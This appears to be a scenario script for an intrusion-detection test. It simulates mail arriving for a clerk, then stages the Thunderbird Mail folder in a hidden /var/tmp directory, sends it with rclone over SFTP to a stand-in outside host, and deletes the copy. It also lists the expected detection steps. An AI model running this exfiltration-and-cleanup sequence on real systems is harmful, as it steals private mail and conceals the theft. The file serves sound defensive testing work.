# The client's own folders, not the server's.
title="Thunderbird's local folders copied aside and sent away with rclone"
what="The clerk keeps the inbox in a local folder of Thunderbird. Somebody with clerk's login copies the Thunderbird profile's Mail folder to /var/tmp under a dull name and lets rclone copy it by SFTP to 203.0.113.66, then removes the copy."
host=ws3.example.org user=clerk daemons="cron sshd dovecot"

setup() {
  outside_sshd
  dovecot_config
  mkdir -p "$base/out/in"
}
act() {
  display_up
  letters clerk 6
  make_pdf "$base/out/terms.pdf" Terms
  mail_in --from partner@example.net --to clerk@example.org --subject "Terms" --attach "$base/out/terms.pdf"; wait_mail clerk 7
  thunderbird_as clerk keep terms.pdf Kept; desktop_close
  small_talk 2
  ssh_as clerk <<'L'
cp -r .thunderbird/desk.default/Mail /var/tmp/.pk
%sleep 3
rclone copy /var/tmp/.pk :sftp,host=drop.example.net,port=2222,user=root,key_file=/home/clerk/.ssh/id_out:/tmp/in-pk 2>/dev/null
rm -rf /var/tmp/.pk
L
  rm -rf /tmp/in-pk
  small_talk 1
}
truth() {
  file_step read 'cp openat:read NORMAL .*Local Folders/Kept' 'the folders are copied'
  exec_step transfer 'rclone copy /var/tmp/.pk' 'and sent away'
  net_step connect 'rclone 203.0.113.66:2222' 'to an address outside'
}
